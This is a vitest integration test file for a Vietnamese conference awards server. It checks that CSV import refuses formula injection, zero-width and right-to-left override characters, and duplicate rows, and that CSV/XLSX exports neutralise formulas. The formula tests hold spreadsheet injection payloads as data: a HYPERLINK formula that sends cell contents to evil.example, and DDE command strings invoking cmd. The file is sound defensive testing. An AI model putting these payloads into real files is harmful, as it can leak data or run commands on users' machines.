/**
 * The import and export routes against a real server: formulas, invisible characters and a list
 * sent twice, each through the dry run and then the import, as the host console sends them.
 */
import ExcelJS from 'exceljs'
import { afterEach, describe, expect, it } from 'vitest'
import type { Award } from '../../shared/domain.js'
import { tinySetup } from '../../shared/testing/tiny-conference.js'
import { startServer, type Running } from '../test/harness.js'
import { defined } from '../../shared/testing/defined.js'

let server: Running
afterEach(async () => server?.stop())

const base = () => `${server.url}/api/conferences/test-conf`
const host = () => ({ authorization: `Bearer ${server.links.host.token}` })

async function importList(csv: string, dryRun: boolean) {
  const res = await fetch(`${base()}/awards/import${dryRun ? '?dryRun=1' : ''}`, { method: 'POST', headers: { ...host(), 'content-type': 'text/csv' }, body: csv })
  return { status: res.status, body: (await res.json()) as Record<string, unknown> }
}
async function seq(): Promise<number> {
  return ((await (await fetch(`${base()}/state`, { headers: host() })).json()) as { seq: number }).seq
}

const HEADER = 'Hình thức khen thưởng,Đối tượng,Tên,Đơn vị,Điểm cầu'
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
const FORMULAS = [HYPERLINK, "=cmd|' /C calc'!A0", '+SUM(1,2)', '@SUM(1,2)']
const quoted = (s: string) => `"${s.replace(/"/g, '""')}"`

describe('formulas in names', () => {
  it('are refused by the dry run and by the import alike, by row and column, and nothing is added', async () => {
    server = await startServer()
    const csv = [HEADER, ...FORMULAS.map((f) => `Bằng khen,Cá nhân,${quoted(f)},Sở Nội vụ,Điểm cầu tỉnh`)].join('\n')
    for (const dryRun of [true, false]) {
      const r = await importList(csv, dryRun)
      expect(r.status, `dryRun ${dryRun}`).toBe(422)
      const errors = r.body['errors'] as { row: number; column: string; message: string }[]
      expect(errors.map((e) => [e.row, e.column, e.message.slice(e.message.indexOf('bắt đầu bằng'), e.message.indexOf(' nên'))])).toEqual([
        [2, 'Tên', 'bắt đầu bằng “=”'], [3, 'Tên', 'bắt đầu bằng “=”'], [4, 'Tên', 'bắt đầu bằng “+”'], [5, 'Tên', 'bắt đầu bằng “@”'],
      ])
    }
    expect(await seq()).toBe(2)
  })

  it('already in a log (an older import, a site’s name) come out of export.csv as text, for the viewer link too; export.xlsx holds them as text', async () => {
    const setup = tinySetup('test-conf')
    setup.sites[1] = { ...defined(setup.sites[1]), name: '-2+3+cmd|x!A0' }
    const awards: Award[] = FORMULAS.map((f, i) => ({ id: `f${i + 1}`, typeId: 'bk', recipientKind: 'individual', recipientName: f, unit: '@Sở', siteId: 'd1' }))
    server = await startServer({ events: [{ type: 'conference.created', data: setup }, { type: 'award.imported', data: { awards } }] })
    for (const type of ['conference.start', 'award.announce']) {
      const data = type === 'award.announce' ? { awardIds: awards.map((a) => a.id), revealInMs: 0 } : {}
      const res = await fetch(`${base()}/commands`, { method: 'POST', headers: { ...host(), 'content-type': 'application/json' }, body: JSON.stringify({ id: crypto.randomUUID(), type, data }) })
      expect(((await res.json()) as { ok: boolean }).ok).toBe(true)
    }
    const viewer = { authorization: `Bearer ${server.links.viewer.token}` }
    const csv = await (await fetch(`${base()}/awards/export.csv`, { headers: viewer })).text()
    const lines = csv.replace(/^\uFEFF/, '').trim().split('\r\n').slice(1)
    expect(lines).toHaveLength(4)
    lines.forEach((line, i) => {
      expect(line).toContain(`,${quoted(`'${FORMULAS[i]}`)},"'@Sở","'-2+3+cmd|x!A0",`)
    })
    // No cell of the file starts a formula: every field is split off and checked.
    for (const field of csv.replace(/^\uFEFF/, '').split(/,|\r\n/)) expect(field, field).not.toMatch(/^[=+\-@]/)

    const book = new ExcelJS.Workbook()
    await book.xlsx.load(await (await fetch(`${base()}/awards/export.xlsx`, { headers: viewer })).arrayBuffer())
    const sheet = defined(book.worksheets[0])
    const names = [2, 3, 4, 5].map((r) => sheet.getRow(r).getCell(6))
    expect(names.map((c) => c.type)).toEqual(Array(4).fill(ExcelJS.ValueType.String))
    expect(names.map((c) => c.value)).toEqual(FORMULAS)
    expect(sheet.getRow(2).getCell(8).type).toBe(ExcelJS.ValueType.String)
  })
})

describe('invisible characters', () => {
  it('a zero-width space, a right-to-left override or a lone combining mark: the dry run refuses what the import refuses, by the sheet’s row', async () => {
    server = await startServer()
    const csv = [HEADER, 'Bằng khen,Cá nhân,Nguyễn Văn A,Sở Nội vụ,', 'Bằng khen,Cá nhân,Nguyễn\u200BVăn B,Sở Nội vụ,', 'Bằng khen,Cá nhân,Trần Văn C,Sở \u202ETài chính,', 'Bằng khen,Cá nhân,Lê Văn D,\u0301,'].join('\n')
    const answers = [await importList(csv, true), await importList(csv, false)]
    for (const r of answers) {
      expect(r.status).toBe(422)
      expect((r.body['errors'] as { row: number; column: string }[]).map((e) => [e.row, e.column])).toEqual([[3, 'Tên'], [4, 'Đơn vị'], [5, 'Đơn vị']])
    }
    expect(answers[1]?.body).toEqual(answers[0]?.body)
    expect(JSON.stringify(answers[0]?.body)).toContain('khoảng trắng không độ rộng (U+200B)')
    expect(JSON.stringify(answers[0]?.body)).not.toMatch(/awards\.\d|data\./)
    expect(await seq()).toBe(2)
  })
})

describe('the same rows twice', () => {
  const six = [HEADER, ...['A', 'B', 'C', 'D', 'E', 'F'].map((n, i) => `Bằng khen,Cá nhân,Nguyễn Văn ${n},Sở Nội vụ,${i % 2 ? 'Ninh Hải' : 'Điểm cầu tỉnh'}`)].join('\r\n')

  it('the dry run says they are already listed and the import says plainly that nothing new was added', async () => {
    server = await startServer()
    const first = await importList(six, false)
    expect(first.body).toMatchObject({ ok: true, imported: 6, seq: 3, message: 'Đã nhập 6 khen thưởng.' })
    // The same rows saved again by another program: other bytes, same awards.
    const again = `\uFEFF${six.replace(/\r\n/g, '\n')}\n`
    const dry = await importList(again, true)
    expect(dry.status).toBe(200)
    expect(dry.body).toMatchObject({
      ok: true, dryRun: true, imported: 0, preview: { total: 0, byType: [], sample: [] },
      alreadyListed: { count: 6, rows: [{ row: 2, id: 'bk-0001' }, { row: 3, id: 'bk-0002' }, { row: 4, id: 'bk-0003' }, { row: 5, id: 'bk-0004' }, { row: 6, id: 'bk-0005' }, { row: 7, id: 'bk-0006' }] },
      message: 'Không có khen thưởng mới: cả 6 dòng đã có trong danh sách khen thưởng của hội nghị (dòng 2–7); nhập tệp này sẽ không thêm gì.',
    })
    for (const body of [again, six]) {
      const r = await importList(body, false)
      expect(r).toEqual({ status: 200, body: { ok: true, imported: 0, errors: [], alreadyListed: dry.body['alreadyListed'], message: 'Không nhập thêm khen thưởng nào: cả 6 dòng đã có trong danh sách khen thưởng của hội nghị (dòng 2–7).' } })
    }
    expect(await seq()).toBe(3)

    // Two new rows among the six: only they are imported, and the answer says so.
    const grown = `${six}\r\nBằng khen,Cá nhân,Phạm Văn G,Sở Nội vụ,\r\nBằng khen,Tập thể,Phòng Nội vụ,UBND huyện Ninh Hải,Ninh Hải`
    expect((await importList(grown, true)).body).toMatchObject({ preview: { total: 2 }, message: 'Danh sách hợp lệ: 2 khen thưởng sẵn sàng để nhập; 6 dòng đã có trong danh sách khen thưởng của hội nghị (dòng 2–7) nên sẽ không nhập lại.' })
    expect((await importList(grown, false)).body).toMatchObject({ ok: true, imported: 2, seq: 4, message: 'Đã nhập 2 khen thưởng; 6 dòng đã có trong danh sách khen thưởng của hội nghị (dòng 2–7) nên không nhập lại.' })
  })
})
